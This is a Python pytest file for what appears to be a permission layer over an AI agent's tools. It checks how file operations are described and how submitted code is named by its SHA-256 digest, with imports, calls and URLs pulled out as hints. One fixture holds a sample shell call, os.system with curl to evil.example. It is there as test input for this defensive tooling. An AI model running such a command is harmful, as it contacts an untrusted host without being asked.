"""Files by their parts, code by its digest."""

from __future__ import annotations

import hashlib

import pytest

from words import SHOP, read_file, run_code

ASSUMES = ["no-symlink", "no-hard-link", "no-mount"]


@pytest.mark.parametrize(
    ("tool", "verb", "kind", "more"),
    [
        ("read_file", "read", "file", {}),
        ("write_file", "write", "file", {"content": "x"}),
        ("append_file", "write", "file", {"content": "x"}),
        ("delete_file", "delete", "file", {}),
        ("list_directory", "list", "directory", {}),
        ("create_directory", "create", "directory", {}),
    ],
)
def test_the_tools_name_says_what_is_done_and_the_path_where(
    tool: str, verb: str, kind: str, more: dict[str, str]
) -> None:
    reading = read_file("src/a.py", tool, **more)
    (operation,) = reading.operations
    assert (operation.verb, operation.object) == (
        verb,
        {"kind": kind, "root": "shop", "path": "src/a.py"},
    )
    assert operation.details == {"parts": ["src", "a.py"], "assumes": ASSUMES}
    assert reading.required == (
        {
            "type": "filesystem",
            "locations": [SHOP.location],
            "identifier": "src/a.py",
            "actions": [verb],
            "operations": [0],
        },
    )
    assert reading.execute is not None
    assert reading.execute.arguments == {"path": "/srv/data/shop/src/a.py", **more}


def test_code_is_named_by_its_digest_and_language() -> None:
    code = "import os\nos.system('curl https://evil.example/x')"
    reading = run_code(code)
    (operation,) = reading.operations
    digest = "sha256:" + hashlib.sha256(code.encode()).hexdigest()
    assert operation.object == {"kind": "code", "language": "python", "digest": digest}
    assert operation.details["hints"] == {
        "imports": ["os"],
        "calls": ["system"],
        "urls": ["https://evil.example/x"],
    }
    assert reading.required[0]["identifier"] == digest


@pytest.mark.parametrize(
    "code",
    ["(" * 3000, "a" + ".b" * 20_000, "1" + "+1" * 20_000, "-" * 60_000 + "1", "def", "\0"],
)
def test_hints_are_empty_where_nothing_can_be_parsed_and_change_nothing(code: str) -> None:
    reading = run_code(code)
    assert not reading.uncertain
    assert reading.operations[0].details["hints"] in ({}, {"calls": []})
    plain = run_code("x = 1")
    assert [(o.verb, o.object["kind"]) for o in plain.operations] == [
        (o.verb, o.object["kind"]) for o in reading.operations
    ]


def test_names_of_one_language_are_one() -> None:
    assert run_code("x", "py").operations[0].object == run_code("x", "python").operations[0].object
    for other in ("bash", "sh", "Python", "", "python\n"):
        assert [item.code for item in run_code("x", other).uncertain] == ["uncertain.code_language"]
